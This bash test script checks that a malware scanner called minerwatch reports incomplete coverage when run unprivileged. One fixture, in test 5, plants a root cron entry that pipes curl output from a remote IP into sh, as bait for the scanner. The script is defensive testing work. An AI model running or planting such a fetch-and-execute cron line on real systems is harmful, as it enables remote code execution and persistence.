#!/usr/bin/env bash
# A `host scan` that could not look says so. Run as nobody (setpriv or runuser, util-linux)
# against a process started as root and a fixture whose crontab folder is 0700, the scan must
# exit 3 ("nothing found, coverage partial"), and its summary and --summary-json must name the
# process and the folder it could not read; findings still win (exit 1) over partial coverage.
# As root the same scans are complete (exit 0).
# Usage: host_unprivileged_test.sh /path/to/minerwatch
set -euo pipefail
bin=${1:?usage: $0 MINERWATCH_BINARY}
skip() {
  echo "SKIP: $*"
  exit 77
}
[[ $(id -u) == 0 ]] || skip "needs root (starts a process and a folder nobody may read)"
if command -v setpriv >/dev/null; then
  as_nobody=(setpriv --reuid=65534 --regid=65534 --clear-groups --)
elif command -v runuser >/dev/null; then
  as_nobody=(runuser -u nobody --)
else
  skip "neither setpriv nor runuser (util-linux) is installed: cannot drop privileges"
fi
"${as_nobody[@]}" test -x "$bin" || skip "nobody cannot execute $bin (a parent folder is not world-searchable)"

work=$(mktemp -d)
chmod 0755 "$work"
target=""
cleanup() {
  [[ -n $target ]] && kill "$target" 2>/dev/null
  rm -rf "$work"
}
trap cleanup EXIT
fail() {
  echo "FAIL: $*" >&2
  for f in "$work"/*.err; do [[ -f $f ]] && sed "s|^|  $(basename "$f"): |" "$f" >&2; done
  exit 1
}
mkdir -m 1777 "$work/out" "$work/state"

# The fixture root: a readable /etc/crontab and a 0700 crontab folder (as Debian's cron makes it).
fx=$work/root
mkdir -p "$fx/etc/cron.d" "$fx/var/spool/cron/crontabs"
echo '17 * * * * root cd / && run-parts --report /etc/cron.hourly' >"$fx/etc/crontab"
echo '*/5 * * * * /usr/bin/backup --quiet' >"$fx/var/spool/cron/crontabs/alice"
chmod -R a+rX "$fx"
chmod 0700 "$fx/var/spool/cron/crontabs"

sleep 300 &
target=$!

# scan NAME WHO ARGS...: runs `host scan` (as root or nobody), sets $code; JSON in out/NAME.json.
scan() {
  local name=$1 who=$2
  shift 2
  local -a run=()
  [[ $who == nobody ]] && run=("${as_nobody[@]}")
  code=0
  "${run[@]}" "$bin" host scan --state-dir "$work/state" --no-intel --no-builtin-rules \
    --cpu-sample-ms 0 --json "$work/out/$name.jsonl" --summary-json "$work/out/$name.json" \
    "$@" 2>"$work/$name.err" || code=$?
}
check_json() {  # name python-expression-over-j
  python3 -c '
import json, sys
j = json.load(open(sys.argv[1]))
if not eval(sys.argv[2]):
    sys.exit("summary %s: %s is false" % (json.dumps(j), sys.argv[2]))' "$work/out/$1.json" "$2" ||
    fail "$1: summary JSON check failed"
}

# 1. Memory of a root process, as nobody: incomplete, the process named.
scan mem_nobody nobody --pid "$target"
[[ $code == 3 ]] || fail "mem_nobody: exit $code, want 3 (incomplete)"
check_json mem_nobody "not j['complete'] and j['memory']['processes_denied'] == 1 and j['memory']['bytes_read'] == 0"
check_json mem_nobody "j['denied_processes'][0].startswith('pid $target (sleep, user root)')"
check_json mem_nobody "j['exit_code'] == 3 and any('memory not readable' in r for r in j['incomplete_reasons'])"
grep -q "coverage: INCOMPLETE" "$work/mem_nobody.err" || fail "mem_nobody: summary does not say INCOMPLETE"
grep -q "pid $target (sleep, user root)" "$work/mem_nobody.err" || fail "mem_nobody: summary does not name the process"
echo "nobody, --pid $target: exit 3; $(grep '^summary:' "$work/mem_nobody.err")"

# 2. The same as root: complete, memory read.
scan mem_root root --pid "$target"
[[ $code == 0 ]] || fail "mem_root: exit $code, want 0"
check_json mem_root "j['complete'] and j['memory']['processes_read'] == 1 and j['memory']['bytes_read'] > 0"
grep -q "coverage: complete" "$work/mem_root.err" || fail "mem_root: summary does not say complete"

# 3. Autostart, as nobody: the 0700 crontab folder is named, exit 3.
scan cron_nobody nobody --root "$fx" --no-memory
[[ $code == 3 ]] || fail "cron_nobody: exit $code, want 3"
check_json cron_nobody "j['unreadable_paths'] == ['/var/spool/cron/crontabs: Permission denied']"
grep -q "autostart not checked: /var/spool/cron/crontabs: Permission denied" "$work/cron_nobody.err" ||
  fail "cron_nobody: summary does not name the crontab folder"

# 4. As root: complete, nothing found.
scan cron_root root --root "$fx" --no-memory
[[ $code == 0 ]] || fail "cron_root: exit $code, want 0"
check_json cron_root "j['complete'] and j['unreadable_paths'] == []"

# 5. Findings win over partial coverage: a readable miner cron entry, the folder still unreadable.
echo '*/10 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh' >"$fx/etc/cron.d/update"
chmod 0644 "$fx/etc/cron.d/update"
scan found_nobody nobody --root "$fx" --no-memory
[[ $code == 1 ]] || fail "found_nobody: exit $code, want 1 (findings)"
check_json found_nobody "not j['complete'] and j['findings'] == 1"

# 6. A whole-system scan as nobody is never "clean": root's processes are not readable.
scan all_nobody nobody --no-system-binaries
[[ $code == 3 || $code == 1 ]] || fail "all_nobody: exit $code, want 3 (or 1 with findings)"
check_json all_nobody "not j['complete'] and j['memory']['processes_denied'] >= 1"
echo "nobody, whole system: exit $code; $(grep '^summary:' "$work/all_nobody.err")"
echo "PASS: unprivileged scans exit 3 and name what they could not read; as root they are complete"
